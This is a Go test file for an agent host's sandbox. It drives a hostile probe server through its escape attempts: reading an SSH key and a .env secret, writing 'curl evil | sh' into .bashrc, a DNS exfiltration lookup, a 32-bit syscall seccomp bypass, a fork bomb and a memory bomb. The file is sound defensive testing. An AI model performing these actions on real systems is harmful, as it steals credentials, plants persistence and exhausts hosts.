//go:build linux

package session_test

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hermes-agent/hermes/host/config"
	"github.com/hermes-agent/hermes/host/session"
	"github.com/hermes-agent/hermes/internal/testproc"
	"github.com/hermes-agent/hermes/sdk"
)

// The hostile tests run hermes-sandboxprobe, an MCP server whose tools
// each try one way out of a sandbox, through the real host session and the
// real stdio plugin: first without a sandbox, where every attempt must get
// through (so a failure under the sandbox is the sandbox's doing, not the
// server's), then under sandboxes, where every attempt must fail while the
// server keeps its own folders and the host is left as it was.

// Sizes of the resource attacks. The fork bomb is bounded by the
// sandbox's process limit; unsandboxed it runs at freeForks only, well
// past that limit, so a broken test cannot exhaust the machine's pids.
const (
	sandboxProcesses = 64
	bombForks        = 10000
	freeForks        = 4 * sandboxProcesses
	bombBytes        = 4 << 30
	sandboxMemory    = "512M"
)

// hostileWorld is what the probe attacks: a fake home with a key, a
// HERMES_HOME with a .env and the server's install folder, a folder
// outside everything, and services on loopback: a web server the hosts
// sandbox allows, one it does not, and a DNS server that answers every
// name.
type hostileWorld struct {
	d                session.Deps
	probe            string
	home, hermesHome string
	install, outside string
	key, env         string
	allowed, other   string // host:port of the two web servers
	dns              string // host:port (UDP)
}

const (
	keyText = "-----BEGIN OPENSSH PRIVATE KEY----- fake"
	envText = "OPENAI_API_KEY=sk-fake-secret"
)

func newHostileWorld(t *testing.T) *hostileWorld {
	t.Helper()
	d, dir := deps(t)
	w := &hostileWorld{d: d, probe: filepath.Join(dir, "hermes-sandboxprobe"), hermesHome: d.Home}
	root := t.TempDir()
	w.home = filepath.Join(root, "home")
	w.outside = filepath.Join(root, "outside")
	w.install = session.InstallDir(d.Home, "probe")
	for _, p := range []string{filepath.Join(w.home, ".ssh"), w.outside, w.install} {
		if err := os.MkdirAll(p, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	// The default deny list (~/.ssh, ...) is read from this HOME.
	t.Setenv("HOME", w.home)
	w.key = filepath.Join(w.home, ".ssh", "id_ed25519")
	w.env = filepath.Join(d.Home, ".env")
	for p, s := range map[string]string{w.key: keyText, w.env: envText} {
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	w.allowed = webServer(t, "allowed site")
	w.other = webServer(t, "other site")
	w.dns = dnsServer(t)
	return w
}

// webServer serves body on a loopback port and returns host:port.
func webServer(t *testing.T, body string) string {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, body)
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().String()
}

// dnsServer answers every A query with 127.0.0.1 (and every other query
// with no answer) on a loopback UDP port, and returns host:port.
func dnsServer(t *testing.T) string {
	t.Helper()
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = pc.Close() })
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if reply := dnsReply(buf[:n]); reply != nil {
				_, _ = pc.WriteTo(reply, from)
			}
		}
	}()
	return pc.LocalAddr().String()
}

// dnsReply answers one DNS query: its question, and 127.0.0.1 for type A.
func dnsReply(q []byte) []byte {
	if len(q) < 12 || binary.BigEndian.Uint16(q[4:]) != 1 {
		return nil
	}
	i := 12
	for i < len(q) && q[i] != 0 {
		i += int(q[i]) + 1
	}
	end := i + 5 // the root label, type and class
	if end > len(q) {
		return nil
	}
	qtype := binary.BigEndian.Uint16(q[i+1:])
	r := append([]byte{q[0], q[1], 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0}, q[12:end]...)
	if qtype == 1 {
		r[7] = 1
		r = append(r, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1)
	}
	return r
}

// probeServer is the probe's entry, under sb (nil for none).
func (w *hostileWorld) probeServer(t *testing.T, sb map[string]any) *config.Server {
	t.Helper()
	srv := &config.Server{Name: "probe", Transport: "stdio", Command: w.probe, Enabled: true,
		ConnectTimeout: 30 * time.Second, Timeout: 3 * time.Minute,
		// A proxy of the machine's own must not carry the unsandboxed
		// attempts elsewhere.
		Env: map[string]string{"HTTP_PROXY": ""}}
	if sb != nil {
		s, err := config.ParseSandbox(sb, nil)
		if err != nil {
			t.Fatalf("sandbox block %v: %v", sb, err)
		}
		srv.Sandbox = s
	}
	return srv
}

// attempt is one way out: a tool of the probe and its arguments.
type attempt struct {
	name string
	tool string
	args map[string]any
}

// attempts are every way out the probe tries; forks is the size of the
// fork bomb.
func (w *hostileWorld) attempts(forks int) []attempt {
	return []attempt{
		{"read HERMES_HOME/.env", "read_file", map[string]any{"path": w.env}},
		{"list HERMES_HOME", "list_dir", map[string]any{"path": w.hermesHome}},
		{"read ~/.ssh/id_ed25519", "read_file", map[string]any{"path": w.key}},
		{"list ~/.ssh", "list_dir", map[string]any{"path": filepath.Join(w.home, ".ssh")}},
		{"write outside its folders", "write_file", map[string]any{"path": filepath.Join(w.outside, "dropped"), "content": "x"}},
		{"write into the home folder", "write_file", map[string]any{"path": filepath.Join(w.home, ".bashrc"), "content": "curl evil | sh"}},
		{"write into HERMES_HOME", "write_file", map[string]any{"path": filepath.Join(w.hermesHome, "config.yaml"), "content": "x"}},
		{"connect to a loopback port", "tcp_connect", map[string]any{"address": w.other}},
		{"resolve a name through a DNS server", "resolve", map[string]any{"host": "exfil.example", "dns": w.dns}},
		{"reach a host not allowed", "http_get", map[string]any{"url": "http://localhost:" + port(w.other) + "/"}},
		{socket32Attempt, "socket32", nil},
		{fmt.Sprintf("fork %d processes", forks), "fork", map[string]any{"count": forks}},
		{"allocate 4 GiB", "allocate", map[string]any{"bytes": bombBytes}},
	}
}

// socket32Attempt makes a UDP socket through the i386 system call ABI
// (int $0x80 from the 64-bit probe), which a seccomp filter written for
// the native ABI does not see: the sandbox's arch filter must fail it.
const socket32Attempt = "make a UDP socket through the 32-bit system call ABI"

// no32BitABI: the probe could not try the 32-bit ABI (another
// architecture, or a kernel without IA32 emulation, where int $0x80
// faults before any filter sees it): there is nothing to prove.
func no32BitABI(out string) bool {
	return strings.Contains(out, "no 32-bit system call ABI") || strings.Contains(out, "function not implemented")
}

func port(hostPort string) string {
	_, p, _ := net.SplitHostPort(hostPort)
	return p
}

// try runs a, and returns the probe's answer ("ok: ..." or "failed: ...").
// A tool error, or a server that stopped answering, fails the test: the
// server must survive its own attempts.
func try(t *testing.T, s *session.Session, a attempt) string {
	t.Helper()
	out, err := callTool(s, a.tool, a.args)
	if err != nil {
		t.Fatalf("%s: the probe did not answer: %v", a.name, err)
	}
	return out
}

// Without a sandbox, the probe gets through every attempt: what fails
// under a sandbox fails because of it.
func TestSandboxProbeUnsandboxedGetsThrough(t *testing.T) {
	w := newHostileWorld(t)
	s := connect(t, w.d, w.probeServer(t, nil))
	if s.Sandbox() != nil {
		t.Fatalf("a server without sandbox: reports %v", s.Sandbox())
	}
	for _, a := range w.attempts(freeForks) {
		out := try(t, s, a)
		t.Logf("%s: %s", a.name, out)
		if a.tool == "socket32" && no32BitABI(out) {
			t.Logf("%s: nothing to prove here", a.name)
			continue
		}
		if !strings.HasPrefix(out, "ok: ") {
			t.Errorf("unsandboxed, %s: %s; want it to get through", a.name, out)
		}
	}
	wantFile(t, filepath.Join(w.outside, "dropped"), "x")
}

// Under a sandbox, with network none and with a hosts list that does not
// name the attacked ports, every attempt fails, the server keeps its own
// folders (and, with hosts, the host it is allowed), and the host is
// unharmed: its secrets unchanged, nothing written, no process left, the
// server still answering.
func TestSandboxStopsHostileServer(t *testing.T) {
	for _, tc := range []struct {
		name    string
		network func(w *hostileWorld) any
	}{
		{"network none", func(*hostileWorld) any { return "none" }},
		{"network hosts", func(w *hostileWorld) any { return []any{w.allowed} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newHostileWorld(t)
			sb := map[string]any{"network": tc.network(w), "limits": map[string]any{
				"memory": sandboxMemory, "processes": processLimit(t), "cpu_seconds": 120}}
			s := connect(t, w.d, w.probeServer(t, sb))
			rep := s.Sandbox()
			if rep == nil || len(rep.Gaps) != 0 {
				t.Fatalf("sandbox report %v; want one with no gaps", rep)
			}
			t.Logf("in force: %s", rep)
			for _, a := range w.attempts(bombForks) {
				before := testproc.Descendants(os.Getpid())
				out := try(t, s, a)
				t.Logf("%s: %s", a.name, out)
				if !strings.HasPrefix(out, "failed: ") {
					t.Errorf("sandboxed, %s: %s; want it stopped", a.name, out)
				}
				if strings.Contains(out, keyText) || strings.Contains(out, envText) {
					t.Errorf("sandboxed, %s: a secret came back: %s", a.name, out)
				}
				if a.tool == "fork" {
					checkForkStopped(t, out)
				}
				if a.tool == "socket32" && !no32BitABI(out) && !strings.Contains(out, "operation not permitted") {
					t.Errorf("sandboxed, %s: %s; want the arch filter's EPERM", a.name, out)
				}
				if left := newProcesses(before); len(left) > 0 {
					t.Errorf("after %s, processes were left: %v", a.name, left)
				}
			}
			// The proxy answered for the host not allowed, and lets the
			// allowed one through.
			if tc.name == "network hosts" {
				if out := try(t, s, attempt{"proxy", "http_get", map[string]any{"url": "http://localhost:" + port(w.other) + "/"}}); !strings.Contains(out, "status 403") {
					t.Errorf("a host not allowed: %s; want the proxy's 403", out)
				}
				if out := try(t, s, attempt{"allowed", "http_get", map[string]any{"url": "http://" + w.allowed + "/"}}); out != "ok: status 200: allowed site" {
					t.Errorf("the allowed host: %s; want it reached through the proxy", out)
				}
			}
			// Its own folders stay usable: the install folder (inside
			// HERMES_HOME) and the private temp folder.
			tmp, err := callTool(s, "env", map[string]any{"name": "TMPDIR"})
			if err != nil || tmp == "" || !filepath.IsAbs(tmp) {
				t.Fatalf("TMPDIR = %q, %v", tmp, err)
			}
			for _, p := range []string{filepath.Join(w.install, "state"), filepath.Join(tmp, "scratch")} {
				if out := try(t, s, attempt{"own folder", "write_file", map[string]any{"path": p, "content": "mine"}}); !strings.HasPrefix(out, "ok: ") {
					t.Errorf("writing its own %s: %s", p, out)
				}
			}
			wantFile(t, filepath.Join(w.install, "state"), "mine")
			// The host is unharmed.
			wantFile(t, w.key, keyText)
			wantFile(t, w.env, envText)
			for _, p := range []string{filepath.Join(w.outside, "dropped"), filepath.Join(w.home, ".bashrc"), filepath.Join(w.hermesHome, "config.yaml")} {
				if _, err := os.Stat(p); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s was written by the sandboxed server (%v)", p, err)
				}
			}
			if out := try(t, s, attempt{"still answers", "list_dir", map[string]any{"path": w.install}}); !strings.HasPrefix(out, "ok: 1 entries") {
				t.Errorf("after the attacks the server answered %s", out)
			}
			if err := s.Close(); err != nil {
				t.Logf("close: %v", err)
			}
			if _, err := os.Stat(tmp); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the private temp folder %s outlived the server (%v)", tmp, err)
			}
		})
	}
}

// processLimit is the sandbox's process limit. As root it is a pids cgroup
// of the server's own; otherwise it is RLIMIT_NPROC, which counts every
// process and thread of the user, so the user's current ones are added.
func processLimit(t *testing.T) int {
	if os.Getuid() == 0 {
		return sandboxProcesses
	}
	n := 0
	uid := strconv.Itoa(os.Getuid())
	tasks, _ := filepath.Glob("/proc/[0-9]*/task/[0-9]*/status")
	for _, p := range tasks {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(b), "\n") {
			if f := strings.Fields(l); len(f) > 1 && f[0] == "Uid:" && f[1] == uid {
				n++
			}
		}
	}
	t.Logf("the user runs %d tasks; RLIMIT_NPROC %d", n, n+sandboxProcesses)
	return n + sandboxProcesses
}

var startedRE = regexp.MustCompile(`^failed: started (\d+) of (\d+) processes`)

// checkForkStopped checks the fork bomb was stopped by the process limit,
// not by something else, well before its end.
func checkForkStopped(t *testing.T, out string) {
	t.Helper()
	m := startedRE.FindStringSubmatch(out)
	if m == nil {
		t.Errorf("fork bomb answer %q; want it stopped after some processes", out)
		return
	}
	if n, _ := strconv.Atoi(m[1]); os.Getuid() == 0 && n >= sandboxProcesses {
		t.Errorf("the fork bomb started %d processes under a limit of %d", n, sandboxProcesses)
	}
}

// newProcesses are the test's descendants now that were not in before.
func newProcesses(before []int) []int {
	var out []int
	for _, p := range testproc.Descendants(os.Getpid()) {
		if !slices.Contains(before, p) {
			out = append(out, p)
		}
	}
	return out
}

func wantFile(t *testing.T, path, want string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil || string(b) != want {
		t.Errorf("%s holds %q (%v), want %q", path, b, err, want)
	}
}

// A deny_read path Landlock cannot cut out (it has no deny rule: every
// entry beside the path needs a rule of its own, and a folder of thousands
// is past the bound) is refused with enforce, saying how to override, and
// the server never starts; with enforce: false it starts and the gap is
// reported.
func TestSandboxRefusedWhenItCannotBeEnforced(t *testing.T) {
	d, dir := deps(t)
	crowded := t.TempDir()
	for i := range 2100 {
		if err := os.WriteFile(filepath.Join(crowded, "f"+strconv.Itoa(i)), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	secret := filepath.Join(crowded, "f0")
	// The marker's folder is writable, so a server that runs says so.
	markerDir := t.TempDir()
	marker := filepath.Join(markerDir, "started")
	entry := func(enforce bool) *config.Server {
		sb, err := config.ParseSandbox(map[string]any{"enforce": enforce, "deny_read": []any{secret}, "writable": []any{markerDir}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return &config.Server{Name: "crowded", Transport: "stdio", Command: "sh", Enabled: true,
			Args:           []string{"-c", `touch "$0" && exec "$1"`, marker, filepath.Join(dir, "hermes-sandboxprobe")},
			ConnectTimeout: 30 * time.Second, Timeout: 30 * time.Second, Sandbox: sb}
	}
	_, err := session.Connect(context.Background(), session.PlanFor(entry(true), d.Home, d.Environ), d)
	ce := connectErr(t, err)
	if ce.Code() != sdk.CodeSandbox || !strings.Contains(err.Error(), "sandbox: {enforce: false}") || !strings.Contains(err.Error(), secret) {
		t.Fatalf("want a sandbox refusal naming %s and the override, got %v", secret, err)
	}
	if strings.Contains(err.Error(), "\n") {
		t.Errorf("the refusal is not one line: %q", err)
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the refused server ran (%v)", err)
	}
	s := connect(t, d, entry(false))
	wantFile(t, marker, "")
	rep := s.Sandbox()
	if rep == nil || len(rep.Gaps) != 1 || !strings.Contains(rep.Gaps[0], secret) {
		t.Fatalf("report with enforce: false = %v; want the deny_read gap", rep)
	}
}
